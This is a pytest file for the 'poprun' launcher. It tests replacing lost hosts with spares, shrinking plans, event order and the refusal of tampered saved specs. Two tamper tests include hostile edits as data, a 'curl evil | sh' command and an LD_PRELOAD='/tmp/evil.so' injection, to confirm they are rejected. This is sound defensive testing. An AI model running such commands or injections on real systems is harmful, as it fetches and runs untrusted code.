"""
The apply step with a membership policy: which hosts each attempt runs on, and why (docs/membership.md).

A scripted backend stands in for ssh (it declares the same traits): each launch ends as the test
says (a lost host, a preflight that fails on named hosts, success), and records the plan it was
given, so that each attempt's hosts and environment can be read exactly.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from poprun.apply import apply
from poprun.backends.base import ApplyResult, InstanceFailure, OutputSink
from poprun.backends.registry import BackendRegistry
from poprun.backends.testing import RecordingLaunch
from poprun.core import events
from poprun.core.diagnostic import HostLostError, PreflightError, error
from poprun.core.span import SourceSpan
from poprun.planner.context import Context
from poprun.planner.flags import parse_flags
from poprun.planner.plan import LaunchPlan
from poprun.planner.solve import solve
from poprun.planner.trait import BUILTIN
from poprun.runs.record import RunRecord

pytestmark = pytest.mark.timeout(60)

Script = Callable[[LaunchPlan], ApplyResult]


class Sink:
    """Keeps every event and nothing of the output."""

    def __init__(self) -> None:
        self.events: list[events.Event] = []

    def write(self, stream: str, data: bytes) -> None:
        pass

    def event(self, event: events.Event) -> None:
        self.events.append(event)

    def of(self, kind: type) -> list[events.Event]:
        return [e for e in self.events if isinstance(e, kind)]


class Launched(RecordingLaunch):
    """A launch whose end the script gives (its wait() returns it, or raises it)."""

    def __init__(self, plan: LaunchPlan, sink: OutputSink, end: ApplyResult | BaseException) -> None:
        super().__init__(plan, {}, sink)
        self._ending = end

    def wait(self) -> ApplyResult:
        if isinstance(self._ending, BaseException):
            raise self._ending
        return self._ending


class Scripted:
    """A backend with ssh's traits: launch k ends as ``script[k]`` says (a result, or an exception to raise)."""

    name = "ssh"
    traits = BUILTIN["ssh"]

    def __init__(self, *script: Callable[[LaunchPlan], ApplyResult | BaseException]) -> None:
        self.script = list(script)
        self.plans: list[LaunchPlan] = []

    def launch(self, plan: LaunchPlan, *, env_source: Mapping[str, str], sink: OutputSink,  # noqa: ARG002
               **_: object) -> Launched:
        self.plans.append(plan)
        ending = self.script.pop(0)(plan)
        if isinstance(ending, PreflightError):
            raise ending
        return Launched(plan, sink, ending)

    def run_on_host(self, host: str, script: str, *, environ: Mapping[str, str],  # noqa: ARG002
                    timeout_s: float) -> tuple[int, bytes]:  # noqa: ARG002
        return 1, b""  # no port can be read: the default port is kept, as for a plugin without host commands


def planned(*args: str) -> LaunchPlan:
    """Return the plan of ``args`` for the ssh backend (one replica per instance unless given)."""
    replicas = () if "--num-replicas" in args else ("--num-replicas", str(len(args[args.index("--host") + 1].split(","))))
    command = parse_flags([*args, *replicas, "--backend", "ssh", "--offline-mode=1", "sh", "-c", "true"], environ={})
    return solve(command.spec, Context(environ={}, cwd="/work")).plan


def lose(host: str) -> Callable[[LaunchPlan], ApplyResult]:
    """Every instance on ``host`` is lost (PR411), the others stopped."""
    def end(plan: LaunchPlan) -> ApplyResult:
        failures = tuple(InstanceFailure(index=i.index, host=i.host, exit_code=255, lost=i.host == host,
                                         stopped=i.host != host) for i in plan.instances)
        root = next(i.index for i in plan.instances if i.host == host)
        return ApplyResult(statuses=tuple(255 for _ in plan.instances), failures=failures, root_cause=root)
    return end


def succeed(plan: LaunchPlan) -> ApplyResult:
    return ApplyResult(statuses=tuple(0 for _ in plan.instances))


def fail_preflight(*hosts: str) -> Callable[[LaunchPlan], PreflightError]:
    def end(_: LaunchPlan) -> PreflightError:
        return PreflightError([error("PR406", f"host '{h}' cannot be reached", detail=f"{h}: no route",
                                     span=SourceSpan.environment(f"host {h}"), hint="check it") for h in hosts],
                              hosts=hosts)
    return end


def run(plan: LaunchPlan, backend: Scripted, tmp_path: Path) -> tuple[ApplyResult, Sink, RunRecord]:
    sink = Sink()
    record = RunRecord.create({"POPRUN_RUNS_DIR": str(tmp_path / "runs")})
    result = apply(plan, sink=sink, registry=BackendRegistry({"ssh": lambda: backend}), env_source={}, record=record)
    return result, sink, record


def hosts_of(plan: LaunchPlan) -> list[str]:
    return [i.host for i in plan.instances]


def test_a_lost_host_is_replaced_by_the_first_spare_in_its_place(tmp_path: Path) -> None:
    """h3 lost in attempt 0: attempt 1's plan has h5 where h3 was; WORLD_SIZE, replicas and MASTER_ADDR as before."""
    plan = planned("--host", "h[1-4]", "--spare-host", "h5,h6", "--num-replicas", "8", "--max-restarts", "1",
                   "--restart-backoff", "0")
    backend = Scripted(lose("h3"), succeed)
    result, sink, record = run(plan, backend, tmp_path)

    assert (0, [["h1", "h2", "h3", "h4"], ["h1", "h2", "h5", "h4"]]) == (
        result.error.status if result.error else 0, [hosts_of(p) for p in backend.plans])
    second = backend.plans[1]
    assert [("4", "8", "h1")] * 4 == [(i.env.get("WORLD_SIZE"), i.env.get("POPDIST_NUM_TOTAL_REPLICAS"),
                                       i.env.get("MASTER_ADDR")) for i in second.instances]
    (replan,) = sink.of(events.Replan)
    assert events.Replan(attempt=1, removed=("h3",), added=("h5",), shrunk=False, hosts=("h1", "h2", "h5", "h4"),
                         instances=4, replicas=8,
                         reason="h5 replaces h3 (h3: stopped answering (PR411))") == replan
    assert [("h1", "h2", "h3", "h4"), ("h1", "h2", "h5", "h4")] == [a.hosts for a in result.attempts]
    assert ["", replan.reason] == [a.replan for a in result.attempts]
    assert Path(record.path, "attempts", "1", "plan.json").exists()


def test_the_replan_is_told_after_the_attempt_before_ended_and_before_the_next_started(tmp_path: Path) -> None:
    """attempt-ended (restart), then replan, then attempt-started: the order a reader of the stream expects."""
    plan = planned("--host", "h1,h2", "--spare-host", "h3", "--max-restarts", "1", "--restart-backoff", "0")
    _, sink, _ = run(plan, Scripted(lose("h2"), succeed), tmp_path)

    kinds = [type(e).__name__ for e in sink.events if isinstance(e, events.AttemptEnded | events.Replan
                                                                 | events.AttemptStarted)]
    assert ["AttemptStarted", "AttemptEnded", "Replan", "AttemptStarted", "AttemptEnded"] == kinds


def test_without_a_spare_the_plan_shrinks_by_whole_hosts_and_instances_keep_their_replicas(tmp_path: Path) -> None:
    """4 hosts x 2 instances, --min-hosts 2: h2 lost; attempt 1 has 6 instances on h1, h3, h4 and 12 replicas."""
    plan = planned("--host", "h[1-4]", "--num-instances", "8", "--num-replicas", "16", "--min-hosts", "2",
                   "--max-restarts", "1", "--restart-backoff", "0")
    backend = Scripted(lose("h2"), succeed)
    result, sink, _ = run(plan, backend, tmp_path)

    second = backend.plans[1]
    assert ["h1", "h1", "h3", "h3", "h4", "h4"] == hosts_of(second)
    assert {("6", "12", "2")} == {(i.env.get("WORLD_SIZE"), i.env.get("POPDIST_NUM_TOTAL_REPLICAS"),
                                   i.env.get("POPDIST_NUM_LOCAL_REPLICAS")) for i in second.instances}
    assert (True, 6) == (sink.of(events.Replan)[0].shrunk, second.topology.num_instances)  # type: ignore[attr-defined]
    assert result.error is None


def test_below_the_minimum_the_run_ends_with_pr310_and_nothing_more_starts(tmp_path: Path) -> None:
    """--min-hosts 2 on two hosts, no spare: h2 lost; no attempt 1, the run ends with PR310 (status 125)."""
    plan = planned("--host", "h1,h2", "--min-hosts", "2", "--spare-host", "h3", "--max-restarts", "3",
                   "--restart-backoff", "0")
    backend = Scripted(lose("h2"), fail_preflight("h3"))
    result, _, _ = run(plan, backend, tmp_path)

    assert 2 == len(backend.plans)
    assert result.error is not None and 125 == result.error.status
    assert ["PR406", "PR310"] == [d.code for d in result.error.diagnostics], result.error


def test_a_host_that_fails_its_preflight_is_left_out_before_anything_starts(tmp_path: Path) -> None:
    """The first launch's preflight fails on h2: the same attempt is launched again on h1, h3 (the spare); no restart spent."""
    plan = planned("--host", "h1,h2", "--spare-host", "h3")
    backend = Scripted(fail_preflight("h2"), succeed)
    result, sink, _ = run(plan, backend, tmp_path)

    assert ([["h1", "h2"], ["h1", "h3"]], None) == ([hosts_of(p) for p in backend.plans], result.error)
    (replan,) = sink.of(events.Replan)
    assert (0, ("h2",), ("h3",)) == (replan.attempt, replan.removed, replan.added)  # type: ignore[attr-defined]
    assert "failed its preflight (PR406" in replan.reason  # type: ignore[attr-defined]


def test_a_program_failure_keeps_the_hosts(tmp_path: Path) -> None:
    """An instance exits 3 (its host is fine): attempt 1 runs on the same hosts, and no replan is told."""
    def exits_3(plan: LaunchPlan) -> ApplyResult:
        return ApplyResult(statuses=(3, 0), failures=(InstanceFailure(index=0, host="h1", exit_code=3),), root_cause=0)

    plan = planned("--host", "h1,h2", "--spare-host", "h3", "--max-restarts", "1", "--restart-backoff", "0")
    backend = Scripted(exits_3, succeed)
    _, sink, _ = run(plan, backend, tmp_path)

    assert ([["h1", "h2"], ["h1", "h2"]], []) == ([hosts_of(p) for p in backend.plans], sink.of(events.Replan))


def test_a_launch_that_lost_hosts_without_a_policy_ends_as_before(tmp_path: Path) -> None:
    """No membership policy: mpirun's HostLostError still ends the run (125, PR411), never restarted."""
    lost = HostLostError([error("PR411", "host h2 stopped answering", detail="gone", span=SourceSpan.environment("host h2"),
                                hint="check it")], hosts=["h2"])
    plan = planned("--host", "h1,h2", "--max-restarts", "2", "--restart-backoff", "0")
    backend = Scripted(lambda _: lost, succeed)
    result, _, _ = run(plan, backend, tmp_path)

    assert (1, 125, ["PR411"]) == (len(backend.plans), result.error.status if result.error else 0,
                                   [d.code for d in result.error.diagnostics] if result.error else [])


def test_a_launch_that_lost_hosts_is_replanned_with_a_policy(tmp_path: Path) -> None:
    """With a spare, mpirun's HostLostError is a lost host: attempt 1 runs on the spare."""
    lost = HostLostError([error("PR411", "host h2 stopped answering", detail="gone", span=SourceSpan.environment("host h2"),
                                hint="check it")], hosts=["h2"])
    plan = planned("--host", "h1,h2", "--spare-host", "h3", "--max-restarts", "1", "--restart-backoff", "0")
    backend = Scripted(lambda _: lost, succeed)
    result, _, _ = run(plan, backend, tmp_path)

    assert ([["h1", "h2"], ["h1", "h3"]], None) == ([hosts_of(p) for p in backend.plans], result.error)


def test_the_report_lists_each_attempts_hosts_and_why_they_changed(tmp_path: Path) -> None:
    """``poprun report``'s view of the record: each attempt, then the hosts it ran on and why they changed."""
    import json

    from poprun.render.outcome import render_attempts
    from poprun.runs.report import result_of

    plan = planned("--host", "h1,h2", "--spare-host", "h3", "--max-restarts", "1", "--restart-backoff", "0")
    _, _, record = run(plan, Scripted(lose("h2"), succeed), tmp_path)
    shown = render_attempts(result_of(json.loads(Path(record.path, "report.json").read_text())))

    lines = shown.splitlines()
    assert ["    on h1,h2", "    on h1,h3: h3 replaces h2 (h2: stopped answering (PR411))"] == lines[2::2], shown


def test_a_kept_spec_that_would_run_another_program_is_refused(tmp_path: Path) -> None:
    """A saved plan whose membership.spec was edited to run something else: the re-plan is refused (PR312), nothing runs."""
    plan = planned("--host", "h1,h2", "--spare-host", "h3", "--max-restarts", "1", "--restart-backoff", "0")
    edited = plan.membership.spec.replace('"true"', '"curl evil | sh"')
    assert edited != plan.membership.spec
    from poprun.core.record import evolve

    tampered = evolve(plan, membership=evolve(plan.membership, spec=edited))
    backend = Scripted(lose("h2"), succeed)
    result, sink, _ = run(tampered, backend, tmp_path)

    assert (1, []) == (len(backend.plans), sink.of(events.Replan))
    assert result.error is not None and ["PR312"] == [d.code for d in result.error.diagnostics], result.error


def test_when_the_hosts_left_hold_no_plan_more_are_left_out_down_to_the_minimum(tmp_path: Path) -> None:
    """--num-ilds 2 on 4 hosts, --min-hosts 2: h2 lost; 3 hosts hold no plan (3 instances over 2 ILDs), so 2 do."""
    plan = planned("--host", "h1,h2,h3,h4", "--num-ilds", "2", "--min-hosts", "2", "--num-replicas", "8",
                   "--max-restarts", "1", "--restart-backoff", "0")
    backend = Scripted(lose("h2"), succeed)
    _, sink, _ = run(plan, backend, tmp_path)

    assert ["h1", "h3"] == hosts_of(backend.plans[1])
    (replan,) = sink.of(events.Replan)
    assert (("h2", "h4"), True) == (replan.removed, replan.shrunk)  # type: ignore[attr-defined]
    assert "h4: left out too, as no plan holds on 3 hosts" in replan.reason  # type: ignore[attr-defined]


@pytest.mark.parametrize("edit", [
    ('MODE = "safe"', 'MODE = "safe"\nLD_PRELOAD = "/tmp/evil.so"'),  # a variable added
    ('MODE = "safe"', 'MODE = "unsafe"'),  # a value the user gave, changed
    ("[program]", '[program]\ncwd = "/elsewhere"'),  # another directory
])
def test_a_kept_spec_that_would_run_in_another_environment_is_refused(tmp_path: Path, edit: tuple[str, str]) -> None:
    """Editing the kept spec's environment or directory is refused too (PR312); its own values are never compared as text."""
    plan = planned("--host", "h1,h2", "--spare-host", "h3", "--max-restarts", "1", "--restart-backoff", "0",
                   "--mpi-local-args=-x MODE=safe")
    assert edit[0] in plan.membership.spec
    from poprun.core.record import evolve

    tampered = evolve(plan, membership=evolve(plan.membership, spec=plan.membership.spec.replace(*edit, 1)))
    backend = Scripted(lose("h2"), succeed)
    result, _, _ = run(tampered, backend, tmp_path)

    assert 1 == len(backend.plans)
    assert result.error is not None and ["PR312"] == [d.code for d in result.error.diagnostics], result.error
